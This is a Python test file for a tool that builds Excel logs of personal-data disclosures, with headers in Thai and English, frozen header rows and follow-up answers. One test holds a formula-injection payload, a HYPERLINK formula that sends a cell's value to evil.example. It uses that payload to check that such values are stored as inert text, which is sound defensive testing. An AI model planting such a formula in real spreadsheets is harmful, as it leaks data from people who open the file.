"""The disclosure log workbook: one row per disclosure and per answer, frozen headers, no formulas."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook

from reports.disclosure.log_workbook import DISCLOSURE_HEADERS, FOLLOWUP_HEADERS, build_log_workbook
from scanners.model.disclosure import DisclosureRecord
from tests.reports.disclosure.samples import SHA, sample_record

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _saved_and_loaded(records: list[DisclosureRecord], language: str = "th") -> Workbook:
    buffer = io.BytesIO()
    build_log_workbook(records, language).save(buffer)
    buffer.seek(0)
    return load_workbook(buffer)


@pytest.mark.parametrize("language", ["th", "en"])
def test_rows_headers_and_frozen_header(language: str) -> None:
    records = [sample_record(), sample_record(id="DIS-2026-0004", followups=())]
    book = _saved_and_loaded(records, language)
    disclosures, followups = book.worksheets
    assert [c.value for c in disclosures[1]] == list(DISCLOSURE_HEADERS[language])
    assert [c.value for c in followups[1]] == list(FOLLOWUP_HEADERS[language])
    assert disclosures.max_row == 3 and followups.max_row == 3
    assert disclosures.freeze_panes == "A2" and followups.freeze_panes == "A2"
    assert disclosures["A1"].font.b
    assert disclosures.column_dimensions["A"].width >= 8


def test_disclosure_row_values() -> None:
    sheet = _saved_and_loaded([sample_record()]).worksheets[0]
    row = {
        header: cell.value for header, cell in zip(DISCLOSURE_HEADERS["th"], sheet[2], strict=True)
    }
    assert row["เลขที่การเปิดเผย"] == "DIS-2026-0003"
    assert row["วันที่เปิดเผย"] == datetime(2026, 1, 14, 10, 0)  # Bangkok wall clock
    assert row["ติดตามครั้งถัดไป"] == datetime(2027, 1, 15, 0, 0)
    assert row["SHA-256"] == SHA
    assert (row["จำนวนแถว"], row["k"]) == (12840, 7)
    assert row["คอลัมน์และวิธีจัดการ"] == (
        "date_of_birth: เฉพาะปีเกิด; national_id: รหัสแทน (นามแฝง); "
        "postcode: เฉพาะรหัสไปรษณีย์; gender: ส่งตามเดิม"
    )
    assert row["ฐานทางกฎหมาย"] == "จดหมายเหตุ การศึกษาวิจัย หรือสถิติ (มาตรา 24(1))"
    assert row["ติดตามผล"] == "ทุก 6 เดือน"
    assert row["สถานะ"] == "ผู้รับยังถือข้อมูลอยู่"
    # The latest answer by time, not the last one in the tuple.
    assert row["คำตอบล่าสุด"] == "ยังจำเป็นต้องใช้ (2026-07-20): ยังวิเคราะห์ไม่เสร็จ"


def test_followup_rows_in_time_order() -> None:
    sheet = _saved_and_loaded([sample_record()], "en").worksheets[1]
    assert [sheet.cell(row, 4).value for row in (2, 3)] == ["No answer", "Still needed"]
    assert sheet.cell(2, 3).value == datetime(2026, 7, 15, 8, 0)
    assert sheet.cell(3, 7).value == datetime(2027, 1, 15, 0, 0)


def test_a_formula_recipient_is_stored_as_text() -> None:
    book = build_log_workbook([sample_record(recipient=FORMULA, purpose="-1+2", owner="@SUM(A1)")])
    cell = book.worksheets[0]["G2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA
    loaded = _saved_and_loaded([sample_record(recipient=FORMULA, purpose="-1+2", owner="@SUM(A1)")])
    sheet = loaded.worksheets[0]
    for ref in ("F2", "G2", "L2"):
        assert sheet[ref].data_type == "s"
        assert not str(sheet[ref].value).startswith(("=", "-", "@"))
    assert loaded.worksheets[1]["B2"].data_type == "s"  # the recipient on the follow-up sheet too


def test_empty_log_has_headers_only() -> None:
    book = build_log_workbook([], "en")
    assert [s.max_row for s in book.worksheets] == [1, 1]


def test_unknown_language_is_refused() -> None:
    with pytest.raises(ValueError):
        build_log_workbook([sample_record()], "de")
